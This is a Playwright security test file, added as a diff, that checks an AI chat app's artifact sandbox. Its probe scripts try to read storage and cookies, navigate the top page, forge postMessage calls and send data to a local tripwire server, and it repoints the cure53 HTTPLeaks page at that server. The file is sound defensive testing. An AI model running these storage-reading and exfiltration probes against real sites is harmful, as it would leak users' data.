@@ -1,0 +1,489 @@
+import { createSocket } from 'node:dgram';
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { BrowserContext, Page, Request } from '@playwright/test';
+import { sse } from './fake-anthropic/responses.mjs';
+import { test as appTest, expect, messageRequests, send } from './support/test';
+
+// What artifact code cannot do (DESIGN.md §4): read the app's storage, change the top page, reach the
+// network, or talk to the app from another frame; and `Open in new tab` does not run it in the app's origin.
+
+/**
+ * A local server that records every HTTP request it gets, and every UDP datagram on the same port (a STUN
+ * request from WebRTC): where artifact pages try to send theirs.
+ */
+interface Tripwire {
+  /** `http://127.0.0.1:<port>`. */
+  readonly origin: string;
+  readonly port: number;
+  /** HTTP requests received whose path starts with `prefix`, as `METHOD /path`. */
+  hits(prefix?: string): string[];
+  /** UDP datagrams received, as `UDP <bytes>`. */
+  datagrams(): string[];
+}
+
+const test = appTest.extend<{ tripwire: Tripwire }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright fixtures take their dependencies by destructuring
+  tripwire: async ({}, use) => {
+    const received: string[] = [];
+    const server = createServer((req, res) => {
+      received.push(`${req.method} ${req.url}`);
+      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const address = server.address();
+    const port = typeof address === 'object' && address ? address.port : 0;
+    const datagrams: string[] = [];
+    const udp = createSocket('udp4');
+    udp.on('message', (message) => datagrams.push(`UDP ${message.length}`));
+    await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
+    await use({
+      origin: `http://127.0.0.1:${port}`,
+      port,
+      hits: (prefix = '/') => received.filter((r) => r.slice(r.indexOf(' ') + 1).startsWith(prefix)),
+      datagrams: () => [...datagrams],
+    });
+    udp.close();
+    server.closeAllConnections();
+    await new Promise((resolve) => server.close(resolve));
+  },
+});
+
+/** This test's lane on the fake Anthropic server. */
+type Lane = Parameters<typeof messageRequests>[0];
+
+const claude = (page: Page) => page.getByRole('article', { name: 'Claude' });
+const panel = (page: Page) => page.getByRole('region', { name: 'Artifacts' });
+const previewFrame = (page: Page, filename: string) =>
+  page.getByTitle(`${filename} preview`, { exact: true });
+const preview = (page: Page, filename: string) => previewFrame(page, filename).contentFrame();
+
+/** Opens the preview's console and returns its list of entries. */
+async function consoleEntries(page: Page) {
+  const region = panel(page).getByRole('region', { name: 'Console' });
+  const toggle = region.getByRole('button', { name: /Console/ });
+  if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click();
+  return region.getByRole('list', { name: 'Console entries' });
+}
+
+/** The model creates `filename` with `content`, then answers; resolves once the answer is shown. */
+async function modelCreates(
+  page: Page,
+  anthropic: Lane,
+  input: {
+    filename: string;
+    content: string;
+    id?: string;
+  },
+) {
+  await anthropic.reply(
+    sse.toolUse({
+      name: 'artifacts',
+      id: input.id ?? 'toolu_create',
+      input: { command: 'create', filename: input.filename, content: input.content },
+    }),
+  );
+  await anthropic.reply(sse.text('The file is ready.'));
+  await send(page, `Write ${input.filename}`);
+  await expect(claude(page).last()).toContainText('The file is ready.');
+}
+
+type WireBlock = { type: string; text?: string; tool_use_id?: string; content?: string | WireBlock[] };
+
+/** What the model read back from the tool call `id` (the result in the request after it). */
+async function toolResult(anthropic: Lane, id = 'toolu_create') {
+  for (const request of await messageRequests(anthropic)) {
+    for (const message of (request.body.messages ?? []) as { content: string | WireBlock[] }[]) {
+      if (typeof message.content === 'string') continue;
+      const block = message.content.find((b) => b.type === 'tool_result' && b.tool_use_id === id);
+      if (!block) continue;
+      return typeof block.content === 'string'
+        ? block.content
+        : (block.content ?? []).map((b) => b.text ?? '').join('\n');
+    }
+  }
+  throw new Error(`no result for ${id}`);
+}
+
+/**
+ * Reasons Chromium gives for a request it refused before sending: "csp" (a Content-Security-Policy) and
+ * "origin" (a cross-origin reference that is never fetched, e.g. an SVG filter in another document).
+ */
+const REFUSED = new Set(['csp', 'origin']);
+
+/**
+ * Every request that went out, from now on, from a frame other than the app's own page (an artifact preview
+ * or anything inside it): answered, or failed for a reason other than a refusal. blob: and data: URLs are
+ * read inside the browser and never reach the network.
+ */
+function watchFrameRequests(context: BrowserContext, app: Page): string[] {
+  const seen: string[] = [];
+  const counts = (request: Request) => {
+    if (/^(blob|data):/.test(request.url())) return false;
+    try {
+      return request.frame() !== app.mainFrame();
+    } catch {
+      return true; // a worker's request
+    }
+  };
+  context.on('requestfinished', (request) => {
+    if (counts(request)) seen.push(`finished ${request.url()}`);
+  });
+  context.on('requestfailed', (request) => {
+    const error = request.failure()?.errorText ?? '';
+    if (counts(request) && !REFUSED.has(error)) seen.push(`failed (${error}) ${request.url()}`);
+  });
+  return seen;
+}
+
+/** Script that tries to read the app's storage, reach the top page and the network, printing what it got. */
+function storageProbe(tripwire: string): string {
+  return `(async function () {
+  function say(what, value) { console.log('probe ' + what + ': ' + value); }
+  async function attempt(what, run) {
+    try { say(what, await run()); } catch (e) { say(what, 'blocked (' + (e && e.name) + ')'); }
+  }
+  await attempt('origin', function () { return String(self.origin); });
+  await attempt('localStorage', function () {
+    var items = [];
+    for (var i = 0; i !== localStorage.length; i++) items.push(localStorage.key(i) + '=' + localStorage.getItem(localStorage.key(i)));
+    return JSON.stringify(items);
+  });
+  await attempt('indexedDB', function () {
+    return new Promise(function (resolve, reject) {
+      var open = indexedDB.open('easel');
+      open.onerror = function () { reject(open.error); };
+      open.onsuccess = function () {
+        var db = open.result, names = Array.from(db.objectStoreNames), out = {};
+        if (names.length === 0) return resolve('an empty database');
+        var tx = db.transaction(names);
+        names.forEach(function (n) { var r = tx.objectStore(n).getAll(); r.onsuccess = function () { out[n] = r.result; }; });
+        tx.oncomplete = function () { resolve(JSON.stringify(out)); };
+        tx.onerror = function () { reject(tx.error); };
+      };
+    });
+  });
+  await attempt('cookie', function () { return JSON.stringify(document.cookie); });
+  await attempt('top document', function () { return top.document.title; });
+  await attempt('app storage', function () { return JSON.stringify(Object.keys(top.localStorage)); });
+  await attempt('top navigation', function () { top.location.href = '${tripwire}/top/navigation'; return 'assigned'; });
+  await attempt('top replace', function () { top.location.replace('${tripwire}/top/replace'); return 'replaced'; });
+  await attempt('popup', function () { return window.open('${tripwire}/top/popup') ? 'opened' : 'refused'; });
+  await attempt('fetch', function () { return fetch('${tripwire}/net/fetch', { mode: 'no-cors' }).then(function () { return 'sent'; }); });
+  await attempt('beacon', function () { return navigator.sendBeacon('${tripwire}/net/beacon', 'x'); });
+  await attempt('image', function () { new Image().src = '${tripwire}/net/image'; return 'requested'; });
+  say('finished', 'yes');
+})();`;
+}
+
+const SECRET = 'app-secret-in-local-storage';
+
+/** What every storage probe must have printed, wherever it ran. */
+function expectContained(log: string) {
+  expect(log).toContain('probe origin: null');
+  expect(log).toContain('probe localStorage: []');
+  expect(log).toContain('probe indexedDB: blocked (SecurityError)');
+  expect(log).toContain('probe cookie: blocked (SecurityError)');
+  expect(log).toContain('probe top document: blocked (SecurityError)');
+  expect(log).toContain('probe app storage: blocked (SecurityError)');
+  expect(log).toContain('probe top navigation: blocked (SecurityError)');
+  expect(log).toContain('probe top replace: blocked (SecurityError)');
+  expect(log).toContain('probe popup: refused');
+  expect(log).toContain('probe fetch: blocked (TypeError)');
+  expect(log).toMatch(/Blocked by the preview's Content-Security-Policy \(connect-src\): \S+\/net\/beacon/);
+  expect(log).toMatch(/Blocked by the preview's Content-Security-Policy \(img-src\): \S+\/net\/image/);
+  expect(log).toContain('probe finished: yes');
+  expect(log).not.toContain('sk-ant-test-key');
+  expect(log).not.toContain(SECRET);
+}
+
+for (const kind of ['HTML', 'SVG'] as const) {
+  test(`script in an ${kind} artifact cannot read the app's storage, change the top page or reach the network`, async ({
+    app,
+    anthropic,
+    context,
+    tripwire,
+  }) => {
+    await app.evaluate((secret) => localStorage.setItem('easel-test', secret), SECRET);
+    const title = await app.title();
+    const script = storageProbe(tripwire.origin);
+    const [filename, content] =
+      kind === 'HTML'
+        ? [
+            'probe.html',
+            `<h1>Probe</h1><img src="${tripwire.origin}/net/img" alt=""><script>${script}</script>`,
+          ]
+        : [
+            'probe.svg',
+            `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 20"><text x="2" y="15">Probe</text>` +
+              `<image href="${tripwire.origin}/net/svg-image" width="10" height="10"/>` +
+              `<script><![CDATA[${script}]]></script></svg>`,
+          ];
+    const frames = watchFrameRequests(context, app);
+
+    await modelCreates(app, anthropic, { filename, content });
+
+    // The model read the console of a run of the file; the person sees the console of the panel's run.
+    expectContained(await toolResult(anthropic));
+    await expect(preview(app, filename).getByText('Probe', { exact: true })).toBeVisible();
+    const entries = await consoleEntries(app);
+    await expect(entries).toContainText('probe finished: yes');
+    expectContained((await entries.textContent()) ?? '');
+    await expect(previewFrame(app, filename)).toHaveAttribute('sandbox', 'allow-scripts');
+
+    await expect(app).toHaveURL(/^http:\/\/127\.0\.0\.1:\d+\/#\/s\/[\w-]+$/);
+    expect(await app.title()).toBe(title);
+    expect(context.pages()).toEqual([app]);
+    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
+    expect(tripwire.hits()).toEqual([]);
+    expect(frames).toEqual([]);
+  });
+}
+
+test('every artifact frame in the app is sandboxed with allow-scripts alone', async ({ app, anthropic }) => {
+  await modelCreates(app, anthropic, { filename: 'index.html', content: '<p>Hello</p>' });
+  await expect(preview(app, 'index.html').getByText('Hello')).toBeVisible();
+  await expect(previewFrame(app, 'index.html')).toHaveAttribute('sandbox', 'allow-scripts');
+  const sandboxes = await app
+    .locator('iframe')
+    .evaluateAll((frames) => frames.map((f) => f.getAttribute('sandbox')));
+  expect(sandboxes).toEqual(['allow-scripts']);
+});
+
+/** The cure53 HTTPLeaks page with every `https://leaking.via` URL pointed at `base` instead. */
+function httpLeaksPage(base: string): string {
+  const original = readFileSync(
+    new URL('./fixtures/artifacts/html-cure53-httpleaks.html', import.meta.url),
+    'utf8',
+  );
+  const host = base.replace(/^http:\/\//, '');
+  const pointed = original
+    .replaceAll('https://leaking.via', base)
+    .replaceAll('%68ttps:%2f/leaking.via', `%68ttp:%2f/${host}`)
+    .replace(/atob\('([A-Za-z0-9+/=]+)'\)/g, (_, b64: string) => {
+      const decoded = Buffer.from(b64, 'base64').toString('latin1').replaceAll('https://leaking.via', base);
+      return `atob('${Buffer.from(decoded, 'latin1').toString('base64')}')`;
+    });
+  expect(pointed).not.toContain('leaking.via');
+  return pointed;
+}
+
+test('the HTTPLeaks page, which tries every way HTML can make a request, makes none', async ({
+  app,
+  anthropic,
+  context,
+  tripwire,
+}) => {
+  // Outside the sandbox the same page does reach the tripwire: the test can see a leak.
+  const control = await context.newPage();
+  await control.setContent(httpLeaksPage(`${tripwire.origin}/control`), { waitUntil: 'commit' });
+  await expect.poll(() => tripwire.hits('/control/').length).toBeGreaterThan(20);
+  await control.close();
+  const frames = watchFrameRequests(context, app);
+
+  await modelCreates(app, anthropic, {
+    filename: 'leak.html',
+    content: httpLeaksPage(`${tripwire.origin}/artifact`),
+  });
+
+  const result = await toolResult(anthropic);
+  expect(result).toContain("Blocked by the preview's Content-Security-Policy (img-src)");
+  expect(result).toContain("Blocked by the preview's Content-Security-Policy (style-src-elem)");
+  await expect(preview(app, 'leak.html').getByText('CLICKME').first()).toBeVisible();
+  await expect(await consoleEntries(app)).toContainText("Blocked by the preview's Content-Security-Policy");
+  expect(tripwire.hits('/artifact/')).toEqual([]);
+  expect(frames).toEqual([]);
+  const paths = (await anthropic.requests()).map((r) => `${r.method} ${r.path}`);
+  expect(paths.filter((p) => p !== 'POST /v1/messages' && p !== 'GET /v1/models')).toEqual([]);
+});
+
+/** A page that tries, from markup and script, every kind of request it can (navigations aside). */
+function requestProbe(tripwire: Tripwire): string {
+  const o = tripwire.origin;
+  return `<h1>Request probe</h1>
+<img src="${o}/net/img" alt="">
+<iframe src="${o}/net/child-frame"></iframe>
+<link rel="stylesheet" href="${o}/net/css">
+<link rel="prefetch" href="${o}/net/prefetch">
+<video src="${o}/net/video"></video>
+<script src="${o}/net/script"></script>
+<script>
+  var o = '${o}';
+  function attempt(name, run) {
+    try {
+      var result = run();
+      if (result && typeof result.then === 'function') result.then(null, function (e) { console.log(name + ' failed: ' + e); });
+    } catch (e) { console.log(name + ' threw: ' + e); }
+  }
+  attempt('fetch', function () { return fetch(o + '/net/fetch', { mode: 'no-cors' }); });
+  attempt('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', o + '/net/xhr'); x.send(); });
+  attempt('websocket', function () { new WebSocket('ws://127.0.0.1:${tripwire.port}/net/ws'); });
+  attempt('eventsource', function () { new EventSource(o + '/net/sse'); });
+  attempt('beacon', function () { navigator.sendBeacon(o + '/net/beacon', 'x'); });
+  attempt('image', function () { new Image().src = o + '/net/image'; });
+  attempt('import', function () { return import(o + '/net/import.js'); });
+  attempt('font', function () { return new FontFace('probe', 'url(' + o + '/net/font)').load(); });
+  attempt('worker', function () { new Worker(o + '/net/worker.js'); });
+  attempt('blob worker', function () {
+    var code = "fetch('" + o + "/net/worker-fetch').catch(function () {})";
+    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
+  });
+  attempt('webrtc', function () {
+    var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${tripwire.port}' }] });
+    pc.createDataChannel('probe');
+    return pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
+  });
+  console.log('all attempts made');
+</script>`;
+}
+
+test('script and markup in a page cannot reach the network', async ({
+  app,
+  anthropic,
+  context,
+  tripwire,
+}) => {
+  const frames = watchFrameRequests(context, app);
+
+  await modelCreates(app, anthropic, { filename: 'net.html', content: requestProbe(tripwire) });
+
+  const result = await toolResult(anthropic);
+  expect(result).toContain('all attempts made');
+  for (const directive of ['connect-src', 'img-src', 'media-src', 'script-src-elem', 'style-src-elem'])
+    expect(result).toContain(
+      `Blocked by the preview's Content-Security-Policy (${directive}): ${tripwire.origin}`,
+    );
+  expect(result).toContain(`Blocked by the preview's Content-Security-Policy (font-src): ${tripwire.origin}`);
+  expect(result).toContain(
+    `Blocked by the preview's Content-Security-Policy (frame-src): ${tripwire.origin}`,
+  );
+  expect(result).toContain(`(connect-src): ws://127.0.0.1:${tripwire.port}/net/ws`);
+  // WebRTC ignores the Content-Security-Policy; the preview switches it off.
+  expect(result).toContain('webrtc threw: Error: WebRTC is off in the preview');
+  await expect(await consoleEntries(app)).toContainText('all attempts made');
+
+  expect(tripwire.hits()).toEqual([]);
+  expect(tripwire.datagrams()).toEqual([]);
+  expect(frames).toEqual([]);
+});
+
+test('a page cannot navigate its frame away or open a window', async ({
+  app,
+  anthropic,
+  context,
+  tripwire,
+}) => {
+  const o = tripwire.origin;
+  const refresh = `<meta http-equiv="refresh" content="0; url=${o}/nav/meta-refresh"><h1>Refresh</h1>`;
+  const leave = `<h1>Leave</h1>
+<form id="form" action="${o}/nav/form" method="post"><input name="q" value="1"></form>
+<a id="blank" href="${o}/nav/link-blank" target="_blank">a link to a new tab</a>
+<a id="link" href="${o}/nav/link">a link</a>
+<script>
+  window.open('${o}/nav/window-open');
+  document.getElementById('blank').click();
+  document.getElementById('form').submit();
+  document.getElementById('link').click();
+  location.href = '${o}/nav/location';
+</script>`;
+  const frames = watchFrameRequests(context, app);
+  await anthropic.reply(
+    sse.toolUse({
+      name: 'artifacts',
+      id: 'toolu_refresh',
+      input: { command: 'create', filename: 'refresh.html', content: refresh },
+    }),
+  );
+  await anthropic.reply(
+    sse.toolUse({
+      name: 'artifacts',
+      id: 'toolu_leave',
+      input: { command: 'create', filename: 'leave.html', content: leave },
+    }),
+  );
+  await anthropic.reply(sse.text('Both files are ready.'));
+  await send(app, 'Write two pages that leave');
+  await expect(claude(app).last()).toContainText('Both files are ready.');
+
+  // Each frame tried to leave; the app page's frame-src refused before any request was made, and Chromium
+  // put its error page in the frame instead.
+  for (const filename of ['leave.html', 'refresh.html']) {
+    await panel(app).getByRole('tab', { name: filename }).click();
+    const frame = await previewFrame(app, filename).elementHandle();
+    await expect.poll(async () => (await frame?.contentFrame())?.url()).toBe('chrome-error://chromewebdata/');
+  }
+  expect(tripwire.hits()).toEqual([]);
+  expect(frames).toEqual([]);
+  expect(context.pages()).toEqual([app]);
+});
+
+test('a message posted to the app by any frame but the preview is ignored', async ({ app, anthropic }) => {
+  await modelCreates(app, anthropic, {
+    filename: 'index.html',
+    content: `<h1>Buttons</h1><button onclick="console.log('genuine click')">Log</button>`,
+  });
+  // A forger that knows everything: the right source, shape and the document's secret channel.
+  const srcdoc = (await previewFrame(app, 'index.html').getAttribute('srcdoc')) ?? '';
+  const channel = /var C = "([^"]+)"/.exec(srcdoc)?.[1];
+  expect(channel).toMatch(/^[\w-]{36}$/);
+  const forged = { source: 'easel-preview', channel, kind: 'console', level: 'error', text: 'forged' };
+
+  await app.evaluate(async (message) => {
+    window.postMessage({ ...message, text: 'forged by the app page itself' }, '*');
+    const other = document.createElement('iframe');
+    other.title = 'another frame';
+    other.srcdoc = `<script>
+      parent.postMessage(${JSON.stringify({ ...message, text: 'forged by another frame' })}, '*');
+      parent.postMessage('forgeries sent', '*');
+    </script>`;
+    // Messages from one frame arrive in order: once this one is here, the forgery has been handled.
+    const sent = new Promise<void>((resolve) => {
+      const listener = (e: MessageEvent) => {
+        if (e.data !== 'forgeries sent') return;
+        window.removeEventListener('message', listener);
+        resolve();
+      };
+      window.addEventListener('message', listener);
+    });
+    document.body.append(other);
+    await sent;
+  }, forged);
+  await preview(app, 'index.html').getByRole('button', { name: 'Log' }).click();
+
+  const entries = await consoleEntries(app);
+  await expect(entries).toContainText('genuine click');
+  await expect(entries).not.toContainText('forged');
+  await expect(panel(app).getByRole('region', { name: 'Console' })).not.toContainText('error');
+});
+
+test("Open in new tab runs the artifact in a sandboxed frame, never in the app's origin", async ({
+  app,
+  anthropic,
+  context,
+}) => {
+  await modelCreates(app, anthropic, {
+    filename: 'index.html',
+    content: `<h1>Standalone</h1><p id="where"></p><script>
+      var storage, idb;
+      try { storage = 'localStorage has ' + localStorage.length + ' items'; } catch (e) { storage = 'localStorage blocked (' + e.name + ')'; }
+      try { indexedDB.open('easel'); idb = 'indexedDB opened'; } catch (e) { idb = 'indexedDB blocked (' + e.name + ')'; }
+      document.getElementById('where').textContent = 'origin: ' + self.origin + '; ' + storage + '; ' + idb;
+    </script>`,
+  });
+
+  const opened = context.waitForEvent('page');
+  await panel(app).getByRole('button', { name: 'Open in new tab' }).click();
+  const tab = await opened;
+
+  const frame = tab.getByTitle('index.html preview', { exact: true });
+  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
+  await expect(frame.contentFrame().getByRole('heading', { name: 'Standalone' })).toBeVisible();
+  await expect(frame.contentFrame().getByText(/^origin: /)).toHaveText(
+    'origin: null; localStorage blocked (SecurityError); indexedDB blocked (SecurityError)',
+  );
+  // The page around the frame is the app's making (a blob: URL of the app's origin) and runs nothing.
+  expect(tab.url()).toMatch(/^blob:http:\/\/127\.0\.0\.1:\d+\/[\w-]+$/);
+  expect(await tab.evaluate(() => document.scripts.length)).toBe(0);
+  expect(await tab.evaluate(() => [...document.body.children].map((e) => e.localName))).toEqual(['iframe']);
+  expect(await tab.evaluate(() => window.opener)).toBeNull();
+});
